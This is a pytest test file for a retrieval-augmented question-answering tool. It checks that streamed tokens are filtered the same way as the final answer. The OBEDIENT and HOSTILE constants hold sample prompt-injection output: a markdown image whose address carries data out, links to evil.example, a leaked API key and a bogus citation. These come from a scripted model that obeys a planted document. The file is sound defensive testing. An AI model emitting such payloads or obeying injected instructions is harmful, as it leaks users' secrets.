"""Every streamed token passes the final answer's checks: no credential, no live link or image, no bogus citation.

The chat model is an obedient one, on a real loopback server, driven through the real ChatOpenAI: it repeats what a
document told it to write, an image whose address carries data out, a citation of a passage that does not exist,
and the key it was sent with. The final answer was already clean; these tests watch what streams before it.
"""

from __future__ import annotations

import io
import itertools
import os
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pexpect
import pytest
from cli_runner import selfcrag
from hypothesis import given, settings
from hypothesis import strategies as st
from scripted_openai import ScriptedOpenAIServer, WorkflowScript, serving

from selfcrag.graph.api import stream_ask
from selfcrag.graph.builder import graph
from selfcrag.graph.context import Context
from selfcrag.llm.output import CheckedStream, checked_answer
from selfcrag.llm.text import MAX_REPLY_CHARS
from selfcrag.llm.think import strip_think

KEY = "sk-selfcrag-test-4f9a7c2e1b"
LOGS = "How long are application logs kept?"
OBEDIENT = (
    f"PWNED ![img](http://127.0.0.1:9/x?d=secret) [99] key=Bearer {KEY} Application logs are kept for 90 days. [1]"
)
# What must never reach a reader, in any stream: the key, the image's address, the marker of no passage.
LEAKS = (KEY, "127.0.0.1:9", "[99]", "![")


@pytest.fixture(scope="module")
def index(index_copy: Path) -> Path:
    return index_copy


@pytest.fixture
def obedient() -> Iterator[ScriptedOpenAIServer]:
    with serving() as start:
        yield start(WorkflowScript(OBEDIENT))


@pytest.fixture
def configured(obedient: ScriptedOpenAIServer, monkeypatch: pytest.MonkeyPatch) -> ScriptedOpenAIServer:
    monkeypatch.setenv("OPENAI_BASE_URL", obedient.url)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    return obedient


@pytest.fixture(scope="module")
def monkeypatch_key() -> Iterator[None]:
    # The key is configured: the checks redact it by its value (hypothesis runs the test many times in one fixture).
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("OPENAI_API_KEY", KEY)
        yield


def assert_clean(where: str, text: str) -> None:
    assert text, f"nothing streamed in {where}"
    for leak in LEAKS:
        assert leak not in text, f"{leak!r} reached {where}: {text!r}"


def test_stream_ask_yields_only_checked_tokens(configured: ScriptedOpenAIServer, kb_dir: Path) -> None:
    events = list(stream_ask(LOGS, data_dir=kb_dir))
    streamed = "".join(payload for kind, payload in events if kind == "token")
    assert_clean("stream_ask's tokens", streamed)
    answer = events[-1][1]
    assert answer.trace[-1]["method"] == "chat"  # the model's answer, not an offline one
    assert streamed.split() == answer.answer.split()  # what streamed is what was kept
    assert "(image: img)" in streamed and "(redacted)" in streamed


def test_studios_messages_stream_carries_no_raw_token(configured: ScriptedOpenAIServer, kb_dir: Path) -> None:
    # LangGraph Studio shows the graph's "messages" stream: it must carry the checked answer, never raw tokens.
    chunks = [
        message
        for message, _ in graph.stream(
            {"question": LOGS}, context=Context(data_dir=str(kb_dir)), stream_mode="messages"
        )
    ]
    assert_clean("the messages stream", "".join(str(message.content) for message in chunks))
    assert any("90 days" in str(message.content) for message in chunks)


def test_a_piped_ask_prints_the_checked_answer_once(obedient: ScriptedOpenAIServer, index: Path) -> None:
    run = selfcrag("ask", LOGS, "--data-dir", index, cwd=index.parent, url=obedient.url, key=KEY)
    assert run.returncode == 0, run.stderr
    assert_clean("ask's output", run.stdout + run.stderr)
    assert run.stdout.count("PWNED") == 1 and "checked against the sources" not in run.stdout


def test_chat_on_a_terminal_shows_no_unchecked_token(obedient: ScriptedOpenAIServer, index: Path) -> None:
    environment = {k: v for k, v in os.environ.items() if k not in ("OPENAI_API_KEY", "OPENAI_BASE_URL")}
    environment.update(TERM="xterm", PROMPT_TOOLKIT_NO_CPR="1", OPENAI_BASE_URL=obedient.url, OPENAI_API_KEY=KEY)
    chat = pexpect.spawn(
        sys.executable,
        ["-m", "selfcrag.cli", "chat", "--data-dir", str(index)],
        cwd=str(index.parent),
        env=environment,
        dimensions=(50, 200),
        encoding="utf-8",
        timeout=120,
    )
    chat.logfile_read = screen = io.StringIO()
    try:
        chat.expect_exact("/help for commands")
        chat.expect_exact("› ")
        chat.sendline(LOGS)
        chat.expect_exact("route: ")
        chat.expect_exact("› ")
    finally:
        chat.close(force=True)
    assert_clean("the terminal", screen.getvalue())
    assert "(image: img)" in screen.getvalue()


def test_a_runaway_reply_streams_no_more_than_a_usable_reply_may_hold(kb_dir: Path, monkeypatch: Any) -> None:
    with serving() as start:
        server = start(WorkflowScript("Application logs are kept for 90 days. [1] " * 6_000))  # about 250 KB
        monkeypatch.setenv("OPENAI_BASE_URL", server.url)
        monkeypatch.setenv("OPENAI_API_KEY", KEY)
        attempts: list[str] = [""]
        final = None
        for kind, payload in stream_ask(LOGS, data_dir=kb_dir):
            if kind == "token":
                attempts[-1] += payload
            elif kind == "retract":
                attempts.append("")
            elif kind == "answer":
                final = payload
    assert final is not None and "90 days" in final.answer and final.degraded  # answered offline in the end
    assert len(attempts) >= 2 and all(len(text) <= MAX_REPLY_CHARS for text in attempts), [len(a) for a in attempts]


HOSTILE = [
    OBEDIENT,
    'See [the guide](http://evil.example/?q=1 "t") and ![x][ref] then <img src=http://e/x> and <think>no</think>done.',
    f"中文回答！[1] 密钥 {KEY}，链接 ![图](http://e/图) 结束。\n[ref]: http://evil.example\n"
    "最后一行 Bearer abcdefgh12345678",
    # A reference definition whose address comes on a later line, and an indented one.
    'See [the guide][g].\n[g]:\n\n  http://evil.example/?k=1 "t"\nthen [more][m] here.\n   [m]: http://e/m\nEnd.',
]


@settings(max_examples=200, deadline=None)
@given(text=st.sampled_from(HOSTILE), cuts=st.lists(st.integers(min_value=1, max_value=400), max_size=40))
def test_however_a_reply_is_cut_into_pieces_the_stream_shows_what_the_final_check_keeps(
    text: str, cuts: list[int], monkeypatch_key: None
) -> None:
    stream = CheckedStream(limit=MAX_REPLY_CHARS)
    shown = "".join(stream.feed(text[a:b]) for a, b in itertools.pairwise([0, *sorted(set(cuts)), len(text)]))
    shown += stream.flush()
    assert shown == checked_answer(strip_think(text))
    assert KEY not in shown and "![" not in shown and "http://e/" not in shown


@pytest.mark.parametrize("text", HOSTILE[1:], ids=["markdown", "chinese", "reference-definitions"])
def test_every_cut_into_two_or_three_pieces_shows_what_the_final_check_keeps(text: str, monkeypatch_key: None) -> None:
    # Exhaustive where the property test samples: a piece may end anywhere, e.g. just before a line break.
    final = checked_answer(strip_think(text))
    for first, second in itertools.combinations_with_replacement(range(len(text) + 1), 2):
        stream = CheckedStream(limit=MAX_REPLY_CHARS)
        shown = stream.feed(text[:first]) + stream.feed(text[first:second]) + stream.feed(text[second:])
        assert shown + stream.flush() == final, (first, second)


def test_a_redacted_key_does_not_become_a_link_target(monkeypatch_key: None) -> None:
    # With a marker in brackets, a key at a line's start before ": url" became "[redacted]: url", a reference
    # definition for the reply's own [the docs][redacted]; the stream could show it before the final check
    # removed the line. The marker holds no brackets: nothing can point at it, in the stream or after.
    text = f"See [the docs][redacted].\n{KEY}: http://evil.example/\nEnd."
    final = checked_answer(text)
    for cut in range(len(text) + 1):
        stream = CheckedStream(limit=MAX_REPLY_CHARS)
        shown = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush()
        assert shown == final, cut
    assert KEY not in final and final.endswith("End."), final
    assert not re.search(r"^\s*\[[^\]]*\]:", final, re.MULTILINE), final  # no reference definition
    assert "(redacted): http://evil.example/" in final  # plain text, as any address the model writes


def test_nothing_past_the_limit_is_shown() -> None:
    stream = CheckedStream(limit=100)
    shown = "".join(stream.feed("word ") for _ in range(1000)) + stream.flush()
    assert stream.over_limit and len(shown) <= 100
